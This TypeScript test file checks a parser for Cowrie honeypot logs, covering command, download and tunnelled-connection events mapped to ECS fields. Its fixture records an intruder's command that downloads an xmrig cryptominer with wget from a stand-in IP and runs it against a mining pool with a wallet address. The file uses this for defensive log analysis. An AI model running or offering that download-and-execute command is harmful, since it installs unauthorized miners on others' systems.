import { test } from "node:test";
import assert from "node:assert/strict";
import { parseWith, sniffWith } from "../../../test-helpers/index.js";
import { cowrieSource } from "./cowrie.js";
import { ecsNdjsonSource } from "../ecs-ndjson.js";

const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
const SHA = "5b0f2a4c3d1e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a";
const base = { sensor: "hp-sgp-01", src_ip: "203.0.113.45", session: "a9d3c6e1b2f4" };

// cowrie.json as Cowrie's jsonlog output writes it: one event per line, eventid, message, sensor, timestamp,
// src_ip, session, plus the fields of each event kind (docs/OUTPUT / cowrie/output/jsonlog.py).
const LOG = [
  { eventid: "cowrie.session.connect", src_port: 51722, dst_ip: "10.0.0.5", dst_port: 2222, protocol: "ssh", message: "New connection: 203.0.113.45:51722 (10.0.0.5:2222) [session: a9d3c6e1b2f4]", timestamp: "2026-11-20T03:14:02.112331Z", ...base },
  { eventid: "cowrie.login.success", username: "root", password: "123456", message: "login attempt [root/123456] succeeded", timestamp: "2026-11-20T03:14:03.500102Z", ...base },
  { eventid: "cowrie.command.input", input: "uname -a; nproc", message: "CMD: uname -a; nproc", timestamp: "2026-11-20T03:14:05.000001Z", ...base },
  { eventid: "cowrie.command.input", input: `cd /tmp; wget http://198.51.100.9/xmrig; chmod +x xmrig; ./xmrig -o pool.supportxmr.com:443 -u ${WALLET}`, message: "CMD: ...", timestamp: "2026-11-20T03:14:09.250000Z", ...base },
  { eventid: "cowrie.session.file_download", url: "http://198.51.100.9/xmrig", outfile: `var/lib/cowrie/downloads/${SHA}`, shasum: SHA, destfile: "/tmp/xmrig", message: `Downloaded URL (http://198.51.100.9/xmrig) with SHA-256 ${SHA} to var/lib/cowrie/downloads/${SHA}`, timestamp: "2026-11-20T03:14:10.000000Z", ...base },
  { eventid: "cowrie.command.failed", input: "nproc", message: "Command not found: nproc", timestamp: "2026-11-20T03:14:11.000000Z", ...base },
  { eventid: "cowrie.session.closed", duration: 12.3, message: "Connection lost after 12 seconds", timestamp: "2026-11-20T03:14:14.000000Z", ...base },
].map((r) => JSON.stringify(r));

test("Cowrie: typed commands become process events with the intruder, sensor, session and login name", async () => {
  const { events, issues } = await parseWith(cowrieSource, [...LOG, '{"eventid": "cowrie.command.input", "input": "ls', "[1,2]"].join("\n"), "cowrie.json");
  assert.deepEqual(issues.map((i) => i.line), [8, 9]);
  assert.equal(events.length, 4);
  const miner = events[1]!;
  assert.deepEqual([miner["event.dataset"], miner["event.category"], miner["event.action"], miner["minerhunt.line"]],
    ["cowrie", ["process"], "command.input", 4]);
  assert.equal(miner["process.command_line"], `cd /tmp; wget http://198.51.100.9/xmrig; chmod +x xmrig; ./xmrig -o pool.supportxmr.com:443 -u ${WALLET}`);
  assert.equal(miner["@timestamp"], "2026-11-20T03:14:09.250Z");
  assert.equal(miner["source.ip"], "203.0.113.45");
  assert.equal(miner["host.name"], "hp-sgp-01");
  assert.equal(miner["user.name"], "root", "from the session's login.success");
  assert.equal(miner["minerhunt.cowrie.session"], "a9d3c6e1b2f4");
  assert.equal(events[3]!["event.outcome"], "failure", "command.failed");
});

test("Cowrie: a file download carries the URL, its host and the file's SHA-256", async () => {
  const { events } = await parseWith(cowrieSource, LOG.join("\n"));
  const download = events.find((e) => e["event.action"] === "session.file_download")!;
  assert.deepEqual(download["event.category"], ["network", "file"]);
  assert.equal(download["url.original"], "http://198.51.100.9/xmrig");
  assert.equal(download["destination.ip"], "198.51.100.9");
  assert.equal(download["url.path"], "/xmrig");
  assert.equal(download["file.hash.sha256"], SHA);
  assert.equal(download["file.path"], "/tmp/xmrig");
});

test("Cowrie: a TCP connection tunnelled through the honeypot (direct-tcpip) names its destination", async () => {
  const lines = [
    { eventid: "cowrie.direct-tcpip.request", dst_ip: "pool.supportxmr.com", dst_port: 3333, src_port: 0, message: "direct-tcp connection request to pool.supportxmr.com:3333 from 127.0.0.1:0", timestamp: "2026-11-20T03:15:00.000000Z", ...base },
    { eventid: "cowrie.direct-tcpip.request", dst_ip: "141.94.96.144", dst_port: 443, src_port: 0, message: "direct-tcp connection request to 141.94.96.144:443 from 127.0.0.1:0", timestamp: "2026-11-20T03:15:01.000000Z", ...base },
  ].map((r) => JSON.stringify(r)).join("\n");
  const { events, issues } = await parseWith(cowrieSource, lines);
  assert.deepEqual(issues, []);
  assert.deepEqual(events.map((e) => [e["event.category"], e["destination.domain"], e["destination.ip"], e["destination.port"]]), [
    [["network"], "pool.supportxmr.com", undefined, 3333],
    [["network"], undefined, "141.94.96.144", 443],
  ]);
});

test("Cowrie: sniffed from its eventids, above the generic ECS reader", async () => {
  const sample = LOG.slice(0, 3).join("\n");
  assert.ok(await sniffWith(cowrieSource, sample) >= 0.95);
  assert.ok(await sniffWith(ecsNdjsonSource, sample) < 0.95);
  assert.equal(await sniffWith(cowrieSource, '{"eventid":"x"}\n'), 0);
});
